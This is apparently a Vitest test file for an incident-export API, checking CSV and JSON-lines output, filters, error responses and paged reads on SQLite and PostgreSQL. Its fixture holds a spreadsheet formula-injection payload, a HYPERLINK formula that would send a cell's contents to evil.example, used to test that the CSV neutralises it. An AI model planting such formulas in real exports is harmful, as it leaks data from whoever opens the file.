// GET /api/v1/incidents?format=csv|jsonl through the real app, over a real store on SQLite and on
// PostgreSQL: every matching incident streamed as a file, in the JSON page's order and with its facts.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { incidentExportRow } from "../domain/export-rows.ts";
import { openStore } from "../store/open-store.ts";
import type { Store } from "../store/store.ts";
import { createApp } from "./app.ts";
import { openIncidentExport } from "./incident-export.ts";
import { parseOutageFilter } from "./outage-query.ts";
import { parseCsv } from "../../test/helpers/parse-csv.ts";
import { openIsolatedPgStore, pgRun } from "../../test/helpers/postgres.ts";
import { makeIncident, NOW, seedRecord } from "../../test/helpers/seed-record.ts";

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Click")\r\nsecond "line", here';
const HOSTILE = makeIncident({
  id: "evil-1",
  vendor: "evil",
  title: HOSTILE_TITLE,
  impact: "major",
  startedAt: "2024-04-10T09:00:00.000Z",
  resolvedAt: "2024-04-10T09:30:00.000Z",
  detectionLagSeconds: 45,
  url: "https://evil.example/incidents/1",
  affectedComponents: [
    { id: "e1", name: "-Edge, EU", worstStatus: "major_outage" },
    { id: "e2", name: "@api", worstStatus: "partial_outage" },
  ],
});

type IncidentPage = { incidents: { id: string }[] };

const STORES: [string, () => Promise<Store>][] = [["SQLite", () => openStore(":memory:")]];
if (pgRun) STORES.push(["PostgreSQL", openIsolatedPgStore]);

describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
  let store: Store;
  let app: ReturnType<typeof createApp>;

  beforeAll(async () => {
    store = await open();
    await seedRecord(store);
    await store.addVendor(
      { slug: "evil", name: "Evil", url: "https://evil.example", platform: "feed" },
      NOW.toISOString(),
    );
    await store.savePoll({
      vendor: "evil",
      polledAt: NOW.toISOString(),
      nextPollAt: NOW.toISOString(),
      outcome: { ok: true, incidents: [HOSTILE] },
      events: [],
    });
    app = createApp({ store, now: () => NOW, pollIntervalSeconds: 60 });
  });
  afterAll(() => store.close());

  const pageJson = async (query: string): Promise<{ id: string }[]> =>
    ((await (await app.request(`/api/v1/incidents?limit=500${query}`)).json()) as IncidentPage).incidents;

  const exported = async (query: string, type: string, extension: string) => {
    const res = await app.request(`/api/v1/incidents?${query}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe(type);
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="pingoru-incidents.${extension}"`,
    );
    return res.text();
  };
  const csv = (query: string) => exported(`format=csv${query}`, "text/csv; charset=utf-8", "csv");
  const jsonl = async (query: string) => {
    const text = await exported(`format=jsonl${query}`, "application/x-ndjson", "jsonl");
    expect(text === "" || text.endsWith("\n")).toBe(true);
    return text
      .split("\n")
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Record<string, unknown>);
  };

  it("writes every incident as JSON lines, newest first, with the JSON page's facts", async () => {
    const page = await pageJson("");
    expect(page).toHaveLength(29);
    const rows = await jsonl("&limit=2"); // limit and paging do not apply: all of them
    expect(rows.map((r) => r.id)).toEqual(page.map((i) => i.id));
    const outage = rows.find((r) => r.id === "acme-outage");
    expect(outage).toEqual({
      vendor: "acme",
      vendor_name: "Acme",
      id: "acme-outage",
      kind: "incident",
      title: "API errors <b>& timeouts",
      impact: "major",
      status: "resolved",
      started_at: "2024-05-01T10:00:00.000Z",
      resolved_at: "2024-05-01T11:30:00.000Z",
      duration_seconds: 5400,
      affected_components: ["API"],
      detection_lag_seconds: 360,
      url: "https://status.example.com/incidents/acme-outage",
    });
    expect(rows.find((r) => r.id === "evil-1")?.title).toBe(HOSTILE_TITLE);
  });

  it("writes RFC 4180 CSV: a header, CRLF records, the same rows, a hostile title quoted and neutralised", async () => {
    const text = await csv("");
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([
      "vendor",
      "vendor_name",
      "id",
      "kind",
      "title",
      "impact",
      "status",
      "started_at",
      "resolved_at",
      "duration_seconds",
      "affected_components",
      "detection_lag_seconds",
      "url",
    ]);
    expect(records.map((r) => r[2])).toEqual((await pageJson("")).map((i) => i.id));
    expect(records.every((r) => r.length === 13)).toBe(true);
    const evil = records.find((r) => r[2] === "evil-1")!;
    expect(evil).toEqual([
      "evil",
      "Evil",
      "evil-1",
      "incident",
      `'${HOSTILE_TITLE}`,
      "major",
      "resolved",
      "2024-04-10T09:00:00.000Z",
      "2024-04-10T09:30:00.000Z",
      "1800",
      "'-Edge, EU; @api",
      "45",
      "https://evil.example/incidents/1",
    ]);
    expect(text).toContain(
      `"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")\r\nsecond ""line"", here"`,
    );
    const open = records.find((r) => r[2] === "quiet-down")!;
    expect([open[1], open[8], open[9]]).toEqual(["Quiet Co", "", ""]); // not resolved: no end, no duration
  });

  it.each([
    ["&vendor=quiet", ["quiet-down"]],
    ["&vendor=evil&vendor=quiet", ["quiet-down", "evil-1"]],
    ["&impact=major&from=2024-04-01", ["quiet-down", "acme-outage", "evil-1"]],
    ["&kind=maintenance", ["acme-maint"]],
    ["&q=timeouts", ["acme-outage"]],
    ["&at=2024-05-01T10:30", ["acme-outage"]],
    ["&from=2024-06-01&status=resolved", []],
  ])("applies the list's filters %s", async (query, ids) => {
    expect((await jsonl(query)).map((r) => r.id)).toEqual(ids);
    const records = parseCsv(await csv(query));
    expect(records.slice(1).map((r) => r[2])).toEqual(ids);
    expect(records[0]![0]).toBe("vendor"); // an empty export still has its header
  });

  it.each([
    ["format=xml", /^format must be one of csv, jsonl, got "xml"$/],
    ["format=CSV", /^format must be one of csv, jsonl, got "CSV"$/],
    ["format=csv&vendor=nobody", /^vendor: no vendor "nobody"$/],
    ["format=jsonl&from=2024-05-02&to=2024-05-01", /^from must not be after to/],
  ])("refuses %s with 400 and a one-line error before streaming anything", async (query, message) => {
    const res = await app.request(`/api/v1/incidents?${query}`);
    expect(res.status).toBe(400);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(await res.json()).toEqual({ error: expect.stringMatching(message) });
  });

  it("keeps the JSON page when no format is asked for", async () => {
    const res = await app.request("/api/v1/incidents?format=&limit=1");
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(((await res.json()) as IncidentPage).incidents.map((i) => i.id)).toEqual(["acme-slow"]);
  });

  it("reads the store a page at a time, keyset after keyset, without overlap or gaps", async () => {
    const filter = parseOutageFilter({ vendor: ["acme"] });
    const all = await openIncidentExport(store, filter, "jsonl", 500);
    const paged = await openIncidentExport(store, filter, "jsonl", 4);
    const read = async (chunks: AsyncIterable<string>) => {
      const pieces: string[] = [];
      for await (const chunk of chunks) pieces.push(chunk);
      return pieces;
    };
    const [whole, pieces] = [await read(all.chunks), await read(paged.chunks)];
    expect(whole).toHaveLength(1);
    expect(pieces).toHaveLength(7); // 27 acme incidents, 4 a page
    expect(pieces.join("")).toBe(whole.join(""));
    expect([all.written(), paged.written()]).toEqual([27, 27]);
    const outage = (await store.getIncident("acme-outage"))!;
    expect(whole.join("")).toContain(JSON.stringify(incidentExportRow(outage, "Acme")) + "\n");
  });
});
